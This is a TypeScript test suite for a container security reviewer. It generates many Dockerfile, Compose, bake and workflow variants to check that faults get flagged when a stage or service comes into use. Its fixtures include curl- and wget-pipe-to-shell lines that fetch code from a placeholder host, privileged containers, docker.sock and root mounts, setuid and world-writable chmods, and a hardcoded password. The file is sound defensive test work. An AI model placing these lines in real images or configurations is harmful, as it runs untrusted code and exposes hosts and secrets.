/**
 * What runs by default is compared, not what files are called: what comes into use is introduced, and a build is evidence that
 * a stage is used, not that another is not. In variations that nobody wrote down, the same ones in every run.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { foreignFolders } from '../../src/known/foreign-folders.data.ts';
import { defaultPolicyPath } from '../../src/policy/policy.ts';
import { messageText } from '../../src/report/wording.ts';
import type { Review } from '../../src/review/review.ts';
import { changeOf } from '../change.ts';
import { Chance } from '../model/compose/chance.ts';
import { run } from '../run.ts';

type Files = Readonly<Record<string, string>>;
type Sides = readonly [before: Files, after: Files];

const runs = 500;

function reviewed([before, after]: Sides): Promise<Review> {
  const [base, head] = [before, after].map((files) => new Map(Object.entries(files))) as [
    Map<string, string>,
    Map<string, string>,
  ];
  return run({
    forge: changeOf(base, head),
    policyPath: defaultPolicyPath,
    overrides: {},
    today: '2026-11-29',
    proving: false,
  });
}

function introduced({ findings }: Review): string[] {
  return findings
    .filter(({ standing }) => standing === 'introduced')
    .map(({ rule, severity, message }) => `${severity} ${rule.id}: ${messageText(message, { values: [], places: [] })}`)
    .sort();
}

const described = (sides: Sides) => JSON.stringify(sides, null, 1);

/** A name that says nothing of what it is there for. */
const names = ['web', 'api', 'worker', 'db', 'proxy', 'shop', 'queue', 'mail'];
const folders = ['', 'deploy/', 'srv/', 'a/b/'];

/** Lines of a service that are a fault of the highest two severities. */
const faults = [
  'privileged: true',
  '"privileged": yes',
  'pid: host\n    cap_add: [SYS_ADMIN]',
  'volumes: ["/:/host"]',
  'volumes:\n      - type: bind\n        source: /var/run/docker.sock\n        target: /var/run/docker.sock',
  'cap_add: [ALL]',
];

function service(name: string, lines: readonly string[]): string {
  return `  ${name}:\n${lines.map((line) => `    ${line}\n`).join('')}`;
}

const image = (name: string) => `image: example/${name}:1.2`;

/** Ways in which a service that was there comes to be started. */
const startings: Readonly<Record<string, (chance: Chance, folder: string) => Sides>> = {
  'a file is called like the override': (chance, folder) => {
    const { name, calm, fragment } = services(chance);
    const override = chance.pick(['compose.override.yaml', 'docker-compose.override.yml']);
    const other = chance.pick(['extra.yaml', 'compose.extra.yaml', 'docker-compose.more.yml']);
    const base = { [`${folder}${mainOf(chance)}`]: calm };
    const text = chance.is(0.5) ? fragment : `services:\n${service(name, [image(name), chance.pick(faults)])}`;
    return [
      { ...base, [folder + other]: text },
      { ...base, [folder + override]: text },
    ];
  },
  'COMPOSE_FILE names it': (chance, folder) => {
    const { calm, fragment } = services(chance);
    const main = mainOf(chance);
    const mark = chance.pick([':', ';', ',']);
    const separator = mark === ':' && chance.is(0.5) ? '' : `COMPOSE_PATH_SEPARATOR=${mark}\n`;
    const quote = chance.pick(['', '"', "'"]);
    const files = { [folder + main]: calm, [`${folder}docker-compose.more.yml`]: fragment };
    const named = `${quote}${main}${mark}docker-compose.more.yml${quote}`;
    const before: Files = chance.is(0.5) ? { ...files, [`${folder}.env`]: 'A=1\n' } : files;
    return [before, { ...files, [`${folder}.env`]: `A=1\n${separator}COMPOSE_FILE=${named}\n` }];
  },
  'the file that is taken before it goes': (chance, folder) => {
    const { calm, whole } = services(chance);
    const files = { [`${folder}docker-compose.yml`]: whole };
    return [{ ...files, [folder + chance.pick(['compose.yaml', 'compose.yml'])]: calm }, files];
  },
  'no profile waits any more': (chance, folder) => {
    const { name, calm } = services(chance);
    const lines = [image(name), chance.pick(faults)];
    const rest = calm.replace(service(name, [image(name)]), '');
    const path = folder + mainOf(chance);
    const [before, after] = [[...lines, 'profiles: [more]'], lines].map((each) => ({
      [path]: rest + service(name, each),
    }));
    return [before!, after!];
  },
  'COMPOSE_PROFILES asks for it': (chance, folder) => {
    const { name } = services(chance);
    const lines = [image(name), chance.pick(faults), 'profiles: [more]'];
    const files = { [folder + mainOf(chance)]: `services:\n${service(name, lines)}` };
    return [files, { ...files, [`${folder}.env`]: `COMPOSE_PROFILES=${chance.pick(['more', '*', 'less,more'])}\n` }];
  },
  'another file includes it': (chance, folder) => {
    const { calm } = services(chance);
    const part = `services:\n${service('part', [image('part'), chance.pick(faults)])}`;
    const path = folder + mainOf(chance);
    return [
      { [path]: calm, [`${folder}part/more.yaml`]: part },
      { [path]: `include: [part/more.yaml]\n${calm}`, [`${folder}part/more.yaml`]: part },
    ];
  },
};

function mainOf(chance: Chance): string {
  return chance.pick(['compose.yaml', 'compose.yml', 'docker-compose.yml', 'docker-compose.yaml']);
}

/** A file in which nothing is wrong, one with a fault of one of its services, and one that only adds the fault. */
function services(chance: Chance) {
  const some = names.filter(() => chance.is(0.3));
  const name = chance.pick(names);
  const all = [...some.filter((each) => each !== name), name];
  const fault = chance.pick(faults);
  const written = (own: readonly string[]) =>
    `services:\n${all.map((each) => service(each, each === name ? own : [image(each)])).join('')}`;
  return {
    name,
    calm: written([image(name)]),
    whole: written([image(name), fault]),
    fragment: `services:\n${service(name, [fault])}`,
  };
}

const good = ['RUN useradd app', 'USER app'];
const bad = [
  'RUN curl http://192.0.2.7/x | sh',
  'run wget -qO- http://192.0.2.7/x | bash',
  'RUN curl -o /x http://192.0.2.7/x && sh /x',
  'RUN apt-get update && \\\n    curl http://192.0.2.7/x | sh',
];

function stage(name: string, lines: readonly string[], from = 'debian:12.1'): string {
  return `FROM ${from} AS ${name}\n${lines.join('\n')}\n`;
}

/** Ways in which a stage that was there comes to be built, or to be a part of what is. */
const buildings: Readonly<Record<string, (chance: Chance) => Sides>> = {
  'compose builds another target': (chance) =>
    builtBy(chance, (target) => ({ [`${mainOf(chance)}`]: composeOf(chance, target) })),
  'bake builds another target': (chance) =>
    builtBy(chance, (target) => ({
      'docker-bake.hcl': `target "app" {\n  tags = ["example/app"]\n  target = "${target}"\n}\n`,
    })),
  'the last two stages are swapped': (chance) => {
    const [calm, fault] = twoStages(chance);
    return [{ Dockerfile: fault + calm }, { Dockerfile: calm + fault }];
  },
  'the last stage goes': (chance) => {
    const [calm, fault] = twoStages(chance);
    return [{ Dockerfile: fault + calm }, { Dockerfile: fault }];
  },
  'the last stage takes files of it': (chance) => {
    const [calm, fault, name] = twoStages(chance);
    const taking = chance.pick([
      `COPY --from=${name} /x /x`,
      `copy --chmod=755 --from=${name} /x /x`,
      `RUN --mount=from=${name},target=/x /x/y`,
    ]);
    return [{ Dockerfile: fault + calm }, { Dockerfile: `${fault}${calm}${taking}\n` }];
  },
  'the last stage begins with it': (chance) => {
    const [calm, fault, name] = twoStages(chance);
    return [{ Dockerfile: fault + calm }, { Dockerfile: fault + calm.replace('debian:12.1', name) }];
  },
};

function twoStages(chance: Chance): [calm: string, fault: string, name: string] {
  const name = chance.pick(names);
  const other = chance.pick(names.filter((each) => each !== name));
  return [stage(other, good), stage(name, [chance.pick(bad), ...good]), name];
}

function builtBy(chance: Chance, files: (target: string) => Files): Sides {
  const [calm, fault, name] = twoStages(chance);
  const other = /AS (\w+)/.exec(calm)![1]!;
  const Dockerfile = chance.is(0.5) ? calm + fault : fault + calm;
  // The same choices on both sides.
  const written = new Map([other, name].map((target) => [target, files('TARGET')] as const));
  const filled = (target: string) =>
    Object.fromEntries(
      Object.entries(written.get(other)!).map(([path, text]) => [path, text.replace('TARGET', target)]),
    );
  return [
    { Dockerfile, ...filled(other) },
    { Dockerfile, ...filled(name) },
  ];
}

function composeOf(chance: Chance, target: string): string {
  return chance.pick([
    `services:\n  app:\n    build:\n      context: .\n      target: ${target}\n`,
    `services:\n  app:\n    build: { context: ., target: "${target}" }\n`,
  ]);
}

for (const [kind, ways] of Object.entries({ service: startings, stage: buildings })) {
  test(`a ${kind} with a fault that comes into use is introduced`, async () => {
    const chance = new Chance(31);
    for (let i = 0; i < runs / 2; i++) {
      const [way, make] = chance.pick(Object.entries(ways));
      const sides =
        kind === 'service' ? make(chance, chance.pick(folders)) : (make as (chance: Chance) => Sides)(chance);
      const review = await reviewed(sides);
      assert.equal(review.verdict, 'fail', `${way}: ${described(sides)}`);
      if (i % 5 > 0) continue;
      // What is in use on both sides is as it was.
      const kept = await reviewed([sides[1], { ...sides[1], README: 'x' }]);
      assert.deepEqual(introduced(kept), [], `${way}: ${described(sides)}`);
    }
  });
}

/** What is wrong with an image that ships, behind what its stage does. */
const ofImages = [
  'USER root',
  'ENV API_PASSWORD=Vq7#kLp2!xZ9mR4t',
  'RUN chmod 4755 /usr/bin/find',
  'RUN chmod -R 777 /usr/bin',
];

/** Ways in which somebody builds another stage, which publish nothing. */
const otherBuilds: readonly ((chance: Chance, target: string) => Files)[] = [
  (chance, target) => ({
    [chance.pick(['compose.dev.yml', 'docker-compose.test.yaml', mainOf(chance)])]: composeOf(chance, target),
  }),
  (chance, target) => ({
    [`.devcontainer/${mainOf(chance)}`]: composeOf(chance, target).replace('context: .', 'context: ..'),
  }),
  (chance, target) => ({
    [chance.pick([
      'docker-bake.hcl',
      'docker-bake.override.hcl',
    ])]: `target "${chance.pick(['dev', 'app-test', 'ci'])}" {\n  tags = ["example/app"]\n  target = "${target}"\n}\n`,
  }),
  // Seen for the first time in this change, which publishes it in earnest.
  (_, target) => ({ 'docker-bake.json': JSON.stringify({ target: { app: { target, tags: ['example/app'] } } }) }),
];

test('a build of another stage takes nothing out of the review', async () => {
  const chance = new Chance(32);
  for (let i = 0; i < runs; i++) {
    const target = chance.pick(['devcontainer', 'dev', 'test', 'lint', 'base']);
    const last = chance.is(0.3) ? stage('app', good).replace(' AS app', '') : stage('app', good);
    const before = stage(target, good) + last;
    const after = `${before}${chance.pick(ofImages)}\n`;
    const other = chance.pick(otherBuilds)(chance, target);
    // Also where the build was merged long before.
    const old = chance.is(0.3) && !('docker-bake.json' in other) ? other : {};
    const [alone, beside] = [
      await reviewed([{ Dockerfile: before }, { Dockerfile: after }]),
      await reviewed([
        { Dockerfile: before, ...old },
        { Dockerfile: after, ...other },
      ]),
    ];
    const told = introduced(beside);
    assert.notEqual(introduced(alone).length, 0, after);
    for (const each of introduced(alone))
      assert.ok(told.includes(each), `${each}: ${described([{}, { ...other, Dockerfile: after }])}`);
  }
});

/** Ways in which somebody gives other values to arguments, which publish nothing. */
const givings: readonly ((chance: Chance, given: string) => Files)[] = [
  (chance, given) => ({
    [chance.pick(['compose.dev.yml', 'docker-compose.test.yaml', '.devcontainer/compose.yaml'])]: argsIn(chance, given),
  }),
  (chance, given) => ({ [mainOf(chance)]: argsIn(chance, given) }),
  (chance, given) => ({
    'docker-bake.hcl': `target "${chance.pick(['dev', 'app-test'])}" {\n  args = { HOST = "${given}" }\n}\n`,
  }),
];

function argsIn(chance: Chance, given: string): string {
  return chance.pick([
    `services:\n  app:\n    build:\n      context: CONTEXT\n      args:\n        HOST: ${given}\n`,
    `services:\n  app:\n    build: { context: CONTEXT, args: ["HOST=${given}"] }\n`,
  ]);
}

test('a build that gives other arguments takes no default out of the review', async () => {
  const chance = new Chance(33);
  for (let i = 0; i < runs; i++) {
    const host = chance.pick(['192.0.2.7', 'cdn.example', 'x.example:8080']);
    const script = chance.pick([
      `RUN curl http://$HOST/x | sh`,
      `RUN wget -qO- http://\${HOST}/x | bash`,
      `ADD http://$HOST/x /x`,
    ]);
    const written = (more: string) => `FROM debian:12.1\nARG HOST${more}\n${good.join('\n')}\n`;
    const before = written('=files.example');
    const after = `${written(`=${host}`)}${script}\n`;
    const [path, text] = Object.entries(chance.pick(givings)(chance, chance.pick(['localhost', '127.0.0.1'])))[0]!;
    const other = { [path]: text.replace('CONTEXT', path.includes('/') ? '..' : '.') };
    // Where it was merged long before, a build for developers is one besides.
    const old = !/^(?:docker-)?compose\.ya?ml$/.test(path) && chance.is(0.5) ? other : {};
    const told = introduced(
      await reviewed([
        { Dockerfile: before, ...old },
        { Dockerfile: after, ...other },
      ]),
    );
    for (const each of introduced(await reviewed([{ Dockerfile: before }, { Dockerfile: after }])))
      assert.ok(told.includes(each), `${each}: ${described([{}, { ...other, Dockerfile: after }])}`);
  }
});

const workflowPath = '.github/workflows/release.yml';

function job(steps: string, more = ''): string {
  return `on: push\njobs:\n  image:\n    runs-on: ubuntu-latest\n${more}    steps:\n${steps}`;
}

function usingAction(chance: Chance, inputs: string): string {
  const action = chance.pick([
    'docker/build-push-action@v6',
    'depot/build-push-action@v1',
    'useblacksmith/build-push-action@v2',
  ]);
  return `      - uses: ${action}\n        with: { ${inputs} }\n`;
}

/** Ways in which something that is reviewed builds or starts what lies in a folder. */
const namings: readonly ((
  chance: Chance,
  folder: string,
) => { readonly by: Files; readonly kind: 'build' | 'start' })[] = [
  (chance, folder) => ({ kind: 'build', by: { [mainOf(chance)]: `services:\n  app:\n    build: ${folder}\n` } }),
  (chance, folder) => ({
    kind: 'build',
    by: { [mainOf(chance)]: `services:\n  app:\n    build: { context: ., dockerfile: ${folder}/Dockerfile }\n` },
  }),
  (_, folder) => ({
    kind: 'build',
    by: { 'docker-bake.hcl': `target "app" {\n  context = "${folder}"\n  tags = ["example/app"]\n}\n` },
  }),
  (chance, folder) => ({
    kind: 'build',
    by: {
      [workflowPath]: job(
        usingAction(
          chance,
          chance.pick([`push: true, context: ./${folder}`, `push: false, file: ${folder}/Dockerfile`]),
        ),
      ),
    },
  }),
  (chance, folder) => ({
    kind: 'build',
    by: {
      [workflowPath]: job(
        `      - run: ${chance.pick(['docker build', 'docker buildx build --push', 'podman build', 'buildah bud'])} -t example/app ${chance.pick([`${folder}`, `-f ${folder}/Dockerfile .`])}\n`,
      ),
    },
  }),
  (_, folder) => ({ kind: 'start', by: { '.env': `COMPOSE_FILE=${folder}/compose.yaml\n` } }),
  (chance, folder) => ({ kind: 'start', by: { [mainOf(chance)]: `include: [${folder}/compose.yaml]\n` } }),
  (_, folder) => ({
    kind: 'start',
    by: { [workflowPath]: job(`      - run: docker compose -f ${folder}/compose.yaml up -d\n`) },
  }),
];

test('what names a file beats the folder in which it lies', async () => {
  const chance = new Chance(33);
  for (let i = 0; i < runs; i++) {
    const folder = `${chance.pick(folders)}${chance.pick(foreignFolders.names)}/${chance.pick(names)}`;
    const { by, kind } = chance.pick(namings)(chance, folder);
    const { calm, whole } = services(chance);
    const path = `${folder}/${kind === 'build' ? 'Dockerfile' : 'compose.yaml'}`;
    const texts = kind === 'build' ? [stage('app', good), stage('app', [chance.pick(bad), ...good])] : [calm, whole];
    // The fault comes with the change, or what names the file does.
    const isOld = chance.is(0.3);
    const sides: Sides = [
      { README: '', [path]: texts[isOld ? 1 : 0]!, ...(isOld ? {} : by) },
      { README: '', [path]: texts[1]!, ...by },
    ];
    const review = await reviewed(sides);
    // In folders of tests a fault weighs less.
    assert.ok(
      introduced(review).some((each) => !/^(?:low|info)/.test(each)),
      described(sides),
    );
    assert.ok(!review.remarks.some((each) => each.includes('skipped')), described(sides));
    if (i % 5 > 0) continue;
    const alone = await reviewed([
      { README: '', [path]: texts[0]! },
      { README: '', [path]: texts[1]! },
    ]);
    assert.deepEqual([alone.verdict, alone.findings.length], ['pass', 0], path);
  }
});

/** Ways in which a workflow publishes a stage, as the files that say so. */
const publishings: readonly ((chance: Chance, target: string) => Files)[] = [
  (chance, target) => ({ [workflowPath]: job(usingAction(chance, `push: true, target: ${target}`)) }),
  (chance, target) => ({
    [workflowPath]: job(usingAction(chance, `target: ${target}, outputs: "type=image,push=true"`)),
  }),
  (chance, target) => ({
    [workflowPath]: job(
      usingAction(chance, "push: '${{ github.ref_type }}', target: '${{ matrix.image }}'"),
      `    strategy: { matrix: { image: [other, ${target}] } }\n`,
    ),
  }),
  (chance, target) => ({
    [workflowPath]: job(
      `      - run: ${chance.pick(['docker', 'podman'])} build --target ${target} -t example/app .\n      - run: docker push example/app\n`,
    ),
  }),
  (_, target) => ({
    [workflowPath]: job(`      - run: docker buildx build --target=${target} --push -t example/app .\n`),
  }),
  (chance, target) => ({
    [workflowPath]:
      'on: push\njobs:\n  image:\n    uses: ./.github/workflows/build.yml\n    with: { stage: TARGET }\n'.replace(
        'TARGET',
        target,
      ),
    '.github/workflows/build.yml': job(usingAction(chance, "push: true, target: '${{ inputs.stage }}'")).replace(
      'on: push',
      'on:\n  workflow_call:\n    inputs: { stage: { type: string } }',
    ),
  }),
  (chance, target) => ({
    [workflowPath]: job(`      - uses: ./.github/actions/build\n        with: { stage: ${target} }\n`),
    '.github/actions/build/action.yml': `inputs: { stage: { required: true } }\nruns:\n  using: composite\n  steps:\n${usingAction(chance, "push: true, target: '${{ inputs.stage }}'").replace(/^ {2}/gm, '')}`,
  }),
  (chance, target) => ({
    [workflowPath]: job(
      chance.pick([
        '      - uses: docker/bake-action@v6\n        with: { files: ops/images.hcl, push: true }\n',
        '      - run: docker buildx bake -f ops/images.hcl --push all\n',
      ]),
    ),
    'ops/images.hcl': `group "default" {\n  targets = ["all"]\n}\ngroup "all" {\n  targets = ["image"]\n}\ntarget "image" {\n  target = "${target}"\n}\n`,
  }),
  (_, target) => ({
    [workflowPath]: job(
      `      - uses: docker/bake-action@v6\n        with: { files: ops/images.hcl, targets: image, push: true, set: image.target=${target} }\n`,
    ),
    'ops/images.hcl': 'target "image" {\n  target = "lint"\n}\n',
  }),
  (_, target) => ({
    [workflowPath]: job('      - uses: goreleaser/goreleaser-action@v6\n        with: { args: release --clean }\n'),
    '.goreleaser.yaml': `dockers:\n  - build_flag_templates: ["--target=${target}"]\n`,
  }),
  (_, target) => ({
    [workflowPath]: job(
      `      - run: mkdir out && cd out && docker build --target ${target} -t example/app ..\n      - run: docker push example/app\n`,
    ),
  }),
];

test('what a workflow publishes ships, and what it only builds or keeps for itself does not', async () => {
  const chance = new Chance(34);
  for (let i = 0; i < runs; i++) {
    const target = chance.pick(names);
    const last = chance.pick(['lint', 'test', 'tools', 'assets']);
    const before = stage(target, good) + stage(last, good);
    const after = `${stage(target, [...good, chance.pick(['USER root', 'ENV API_PASSWORD=Vq7#kLp2!xZ9mR4t'])])}${stage(last, good)}`;
    const way = chance.pick(publishings);
    const files = way(chance, target);
    // The change may also have something else published.
    const now = chance.is(0.3) ? way(chance, last) : files;
    const published = await reviewed([
      { Dockerfile: before, ...files },
      { Dockerfile: after, ...now },
    ]);
    assert.equal(published.verdict, 'fail', described([files, { Dockerfile: after, ...now }]));
    if (i % 4 > 0) continue;
    const inputs = chance.pick([
      `push: false, target: ${target}`,
      `push: true, target: ${target}, tags: "localhost:5000/a"`,
      "push: true, target: '${{ github.ref_name }}'",
    ]);
    const kept = { [workflowPath]: job(usingAction(chance, inputs)) };
    const [alone, beside] = [
      await reviewed([{ Dockerfile: before }, { Dockerfile: after }]),
      await reviewed([
        { Dockerfile: before, ...kept },
        { Dockerfile: after, ...kept },
      ]),
    ];
    assert.deepEqual(introduced(beside), introduced(alone), described([kept, { Dockerfile: after }]));
  }
});

test('another stage that a change has published is introduced, whatever says so', async () => {
  const chance = new Chance(35);
  for (let i = 0; i < runs / 4; i++) {
    const [target, other, last] = [chance.pick(names), 'another', chance.pick(['lint', 'assets'])];
    const Dockerfile = `${stage(target, good)}${stage(other, [...good, 'ENV API_PASSWORD=Vq7#kLp2!xZ9mR4t'])}${stage(last, good)}`;
    const way = chance.pick(publishings);
    const [before, after] = [way(new Chance(i), target), way(new Chance(i), other)];
    const [moved, kept] = [
      await reviewed([
        { Dockerfile, ...before },
        { Dockerfile, ...after },
      ]),
      await reviewed([
        { Dockerfile, ...after },
        { Dockerfile, ...after, 'docs.yml': 'x: 1\n' },
      ]),
    ];
    assert.equal(moved.verdict, 'fail', described([before, after]));
    assert.deepEqual(introduced(kept), [], described([after, after]));
    const gone = await reviewed([
      { Dockerfile, ...before },
      { Dockerfile, ...way(new Chance(i), 'nobody') },
    ]);
    const says = (remark: string) =>
      remark.endsWith('builds the stage nobody of Dockerfile, which has none of that name.');
    assert.ok(gone.remarks.some(says), described([before, way(new Chance(i), 'nobody')]));
  }
});
